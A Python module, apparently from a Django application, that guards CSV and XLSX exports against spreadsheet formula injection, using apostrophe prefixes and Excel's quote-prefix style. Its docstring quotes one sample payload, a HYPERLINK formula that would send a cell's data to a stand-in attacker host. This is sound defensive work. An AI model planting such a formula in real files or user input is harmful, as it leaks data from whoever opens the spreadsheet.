"""Formula injection: text that a spreadsheet would run as a formula is neutralised in every export.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some programs
skip before looking) can be taken for a formula by Excel or LibreOffice when the file is opened, e.g.
``=HYPERLINK("http://evil.example/?"&A1)`` typed into a profile.  So:

* CSV: such text is written with a leading apostrophe (``'=HYPERLINK(...)``), the usual neutralisation;
  ``restore`` takes it off again when the product reads its own file back (imports).
* XLSX: such text is written as a string cell with Excel's "quote prefix" style: it can never be a formula,
  and it reads back exactly as it was written.

Numbers (int, Decimal, float) are written as numbers and are never changed.
"""

from __future__ import annotations

from django.utils.functional import Promise

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value) -> bool:
    return isinstance(value, str) and value[:1] in TRIGGERS


def neutralise(value):
    """For CSV: risky text gets a leading apostrophe; anything else is returned as it is."""
    if isinstance(value, Promise):
        value = str(value)
    return "'" + value if is_risky(value) else value


def restore(value: str) -> str:
    """The inverse of ``neutralise`` for text read back from our own CSV files."""
    if isinstance(value, str) and value.startswith("'") and value[1:2] and value[1] in TRIGGERS:
        return value[1:]
    return value


def csv_row(values) -> list:
    return [neutralise(v) for v in values]


def set_xlsx_value(cell, value) -> None:
    """Put ``value`` in an openpyxl cell; risky text becomes a quote-prefixed string, never a formula."""
    if isinstance(value, Promise):  # a lazily translated label
        value = str(value)
    cell.value = value
    if isinstance(value, str) and (value.startswith("=") or is_risky(value)):
        cell.data_type = "s"
        cell.quotePrefix = True
